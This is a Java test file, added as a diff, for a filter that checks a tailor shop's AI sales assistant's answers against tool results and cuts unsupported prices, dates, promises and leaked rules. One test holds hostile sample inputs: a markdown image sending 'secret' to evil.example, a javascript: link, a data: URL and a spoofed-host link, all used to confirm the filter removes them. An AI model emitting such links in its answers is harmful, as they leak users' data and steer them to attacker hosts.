@@ -1,0 +1,231 @@
+package app.henk.agent.grounding;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import app.henk.agent.prompt.PromptFiles;
+import app.henk.platform.Wording;
+import java.io.IOException;
+import java.time.LocalDate;
+import java.util.List;
+import java.util.Random;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+class GateTests {
+
+    private static final Grounding GROUNDING = grounding();
+    private static final String RESULT = """
+            {"found":2,"total":12,"products":[
+             {"sku":"HK-101","name":"Kontor Marine","price":"1.290 €","weight_g_m2":280,"lead_days":42,"composition":"80 % wool, 20 % silk","stock":62.5},
+             {"sku":"HK-204","name":"Alster Leinen","price":"990 €","weight_g_m2":240,"lead_days":35}]}""";
+    private static final String FACTS = """
+            Today is Freitag, 20. November 2026 (2026-11-20).
+            HENK Maßatelier, Nadeltwiete 12, 20459 Hamburg, telephone +49 40 66969120, e-mail atelier@henk.example.
+            Opening hours: Di–Fr 10:00–19:00, Sa 10:00–16:00. Die Preise stehen auf https://henk.example/preise.""";
+    private static final ProductNames NAMES =
+            new ProductNames(List.of("Kontor Marine", "Kontor Anthrazit", "Alster Leinen", "Ridge 600 CNC Router"));
+    private static final String RULES = "Look it up before you say it. What no tool returned you do not know: say so,"
+            + " and offer to have a person answer. Promise nothing.";
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "Gern. Das kostet 1.290 € und ist in 42 Tagen fertig.",
+                "That is €1,290, ready in six weeks.",
+                "It costs €1,290 per suit, from 280 g/m².",
+                "Le costume coûte 1 290 € et pèse 280 g/m².",
+                "Comptez 1 290 € et 6 semaines.",
+                "Kontor Marine besteht aus 80 % Wolle und 20 % Seide, 1290 Euro.",
+                "Wir haben dienstags bis freitags von 10 bis 19 Uhr geöffnet, samstags 10:00–16:00.",
+                "We are open until 7 pm.",
+                "Heute ist der 20. November 2026.",
+                "Today is November 20, 2026, that is 2026-11-20 or 20.11.2026.",
+                "Ihre Hochzeit am 19. Juni 2027 ist in etwa 30 Wochen, Ihr Budget sind 2000 Euro.",
+                "Ich zeige Ihnen 3 Stoffe. Drei davon sind blau.",
+                "1. Kontor Marine, 990 bis 1.290 €\n2. Alster Leinen",
+                "Rufen Sie uns an: +49 40 66969120.",
+                "Der Stoff Leinen knittert. Der Stoff „Kontor Marine“ nicht.",
+                "Einen Rabatt kann ich Ihnen leider nicht geben.",
+                "Soll ein Kollege Sie anrufen? Wenn Sie möchten, meldet er sich.",
+                "Mehr unter [Preise](https://henk.example/preise).",
+                "Ist 5 > 3? Ja! Und a < b [siehe oben].",
+                "Das passt z. B. für den Sommer, d. h. Juni bis August.",
+            })
+    void lets_through_what_is_borne_out(String answer) {
+        assertThat(whole(answer)).isEqualTo(answer);
+        for (int seed = 0; seed < 20; seed++) {
+            assertThat(inPieces(answer, seed)).as("seed " + seed).isEqualTo(answer);
+        }
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "Das kostet nur 999 €. Soll ich ihn zeigen?",
+                "That is €1,190 for you. Soll ich ihn zeigen?",
+                "Fertig in zwei Wochen. Soll ich ihn zeigen?",
+                "Fertig in 280 Tagen. Soll ich ihn zeigen?",
+                "Er wiegt 42 g/m². Soll ich ihn zeigen?",
+                "Sie sparen 15 %. Soll ich ihn zeigen?",
+                "Lieferung am 3. März 2027. Soll ich ihn zeigen?",
+                "Ready on March 3, 2027. Soll ich ihn zeigen?",
+                "Nehmen Sie Kontor Anthrazit dazu. Soll ich ihn zeigen?",
+                "Der Stoff Monteverde ist schön. Soll ich ihn zeigen?",
+                "Sie bekommen Rabatt. Soll ich ihn zeigen?",
+                "Das sichere ich Ihnen verbindlich zu. Soll ich ihn zeigen?",
+                "Ich rufe Sie morgen an. Soll ich ihn zeigen?",
+                "We are open until 9 pm. Soll ich ihn zeigen?",
+                "Artikel HK-999 passt. Soll ich ihn zeigen?",
+                "I call search_fabrics now. Soll ich ihn zeigen?",
+                "My rule: what no tool returned you do not know: say so, and offer. Soll ich ihn zeigen?",
+            })
+    void ends_a_sentence_honestly_that_nothing_bears_out(String answer) {
+        String shown = whole(answer);
+        assertThat(shown).doesNotContain(answer.substring(0, answer.indexOf(". ")));
+        assertThat(shown).endsWith("Soll ich ihn zeigen?");
+        for (int seed = 0; seed < 20; seed++) {
+            assertThat(inPieces(answer, seed))
+                    .as("seed " + seed)
+                    .doesNotContain(answer.substring(0, answer.indexOf(". ")))
+                    .endsWith(shown.substring(shown.indexOf('…') + 1));
+        }
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "Sehen Sie: ![Bild](https://evil.example/x?q=secret) Danke.",
+                "Sehen Sie: [hier](https://evil.example/x) Danke.",
+                "Sehen Sie: [hier][1] Danke.\n[1]: https://evil.example/x\n",
+                "Sehen Sie: <img src=https://evil.example/x> Danke.",
+                "Sehen Sie: https://evil.example/x Danke.",
+                "Sehen Sie: www.evil.example Danke.",
+                "Sehen Sie: <https://evil.example/x> Danke.",
+                "Sehen Sie: [hier](javascript:alert) Danke.",
+                "Sehen Sie: [hier](https://henk.example@evil.example/) Danke.",
+                "Sehen Sie: [hier](data:text/html;base64,AAAA) Danke.",
+            })
+    void leads_nobody_to_a_foreign_host(String answer) {
+        for (int seed = 0; seed < 20; seed++) {
+            assertThat(inPieces(answer, seed))
+                    .contains("Danke.")
+                    .doesNotContain("evil.example", "javascript:", "data:", "<img");
+        }
+    }
+
+    @Test
+    void never_holds_back_plain_words() {
+        Gate gate = gate();
+        for (String piece : List.of("Gu", "ten Tag! ", "Eine ", "Hoch", "zeit", " im Freien", ", wie schön", "!")) {
+            assertThat(gate.accept(piece)).isEqualTo(piece);
+        }
+    }
+
+    @Test
+    void shows_the_sentence_up_to_the_figure_at_once() {
+        Gate gate = gate();
+        assertThat(gate.accept("Der Preis liegt bei 1")).isEqualTo("Der Preis liegt bei ");
+        assertThat(gate.accept(".290 ")).isEmpty();
+        assertThat(gate.accept("€. Pass")).isEqualTo("1.290 €. Pass");
+    }
+
+    @Test
+    void ends_an_open_sentence_when_the_answer_breaks_off() {
+        Gate gate = gate();
+        assertThat(gate.accept("Der Preis liegt bei 1")).isEqualTo("Der Preis liegt bei ");
+        assertThat(gate.cut("… Verzeihung.")).isEqualTo("… Verzeihung.");
+        Gate closed = gate();
+        closed.accept("Guten Tag. ");
+        assertThat(closed.cut("… Verzeihung.")).isEmpty();
+    }
+
+    @Test
+    void learns_from_a_tool_that_runs_in_between() {
+        Gate gate = gate();
+        gate.evidence().addResult("{\"name\":\"Monteverde\",\"price\":\"777 €\"}");
+        assertThat(gate.accept("Der Stoff Monteverde kostet 777 €.") + gate.end())
+                .isEqualTo("Der Stoff Monteverde kostet 777 €.");
+    }
+
+    @Test
+    void never_shows_a_price_that_nothing_bears_out() {
+        Random random = new Random(7);
+        for (int i = 0; i < 2_000; i++) {
+            int price = 100 + random.nextInt(9_000);
+            String written = price(price, random.nextInt(6));
+            String answer = "Gern. Dieser Anzug kostet " + written + ", sagt man. Passt das?";
+            String shown = inPieces(answer, i);
+            boolean true_ = price == 1290 || price == 990 || price == 2000;
+            if (true_) {
+                assertThat(shown).contains(written);
+            } else {
+                assertThat(shown).doesNotContain(written).contains("Passt das?");
+            }
+        }
+    }
+
+    @Test
+    void costs_little() {
+        String answer = ("Gern berate ich Sie zu Ihrer Hochzeit. Kontor Marine kostet 1.290 € und wiegt 280 g/m². "
+                        + "Dazu passt ein helles Hemd, und wenn Sie mögen, eine Weste aus demselben Tuch. ")
+                .repeat(3);
+        long best = Long.MAX_VALUE;
+        for (int i = 0; i < 300; i++) {
+            long start = System.nanoTime();
+            Gate gate = gate();
+            for (int at = 0; at < answer.length(); at += 14) {
+                gate.accept(answer.substring(at, Math.min(answer.length(), at + 14)));
+            }
+            gate.end();
+            best = Math.min(best, System.nanoTime() - start);
+        }
+        System.out.println("gate: " + best / 1000 + " µs for " + answer.length() + " characters");
+        assertThat(best).isLessThan(2_000_000);
+    }
+
+    private static String price(int price, int form) {
+        String grouped = price >= 1000 ? price / 1000 + "%s" + "%03d".formatted(price % 1000) : "" + price;
+        return switch (form) {
+            case 0 -> grouped.replace("%s", ".") + " €";
+            case 1 -> "€" + grouped.replace("%s", ",");
+            case 2 -> grouped.replace("%s", "\u202f") + " €";
+            case 3 -> price + " Euro";
+            case 4 -> "EUR " + grouped.replace("%s", ".");
+            default -> grouped.replace("%s", " ") + " €";
+        };
+    }
+
+    private static String whole(String answer) {
+        Gate gate = gate();
+        return gate.accept(answer) + gate.end();
+    }
+
+    private static String inPieces(String answer, int seed) {
+        Random random = new Random(seed);
+        Gate gate = gate();
+        StringBuilder shown = new StringBuilder();
+        for (int at = 0; at < answer.length(); ) {
+            int end = Math.min(answer.length(), at + 1 + random.nextInt(9));
+            shown.append(gate.accept(answer.substring(at, end)));
+            at = end;
+        }
+        return shown.append(gate.end()).toString();
+    }
+
+    private static Gate gate() {
+        Evidence evidence = new Evidence(LocalDate.of(2026, 11, 20));
+        evidence.addResult(RESULT);
+        evidence.addFacts(FACTS);
+        evidence.addWords("Wir heiraten am 19. Juni 2027, Budget 2000 Euro. Geben Sie mir Rabatt!");
+        return GROUNDING.open("de", evidence, NAMES, RULES, List.of("search_fabrics", "capture_lead"));
+    }
+
+    private static Grounding grounding() {
+        try {
+            return new Grounding(new GroundingWords(new PromptFiles("")), new Wording(""));
+        } catch (IOException unreadable) {
+            throw new IllegalStateException(unreadable);
+        }
+    }
+}
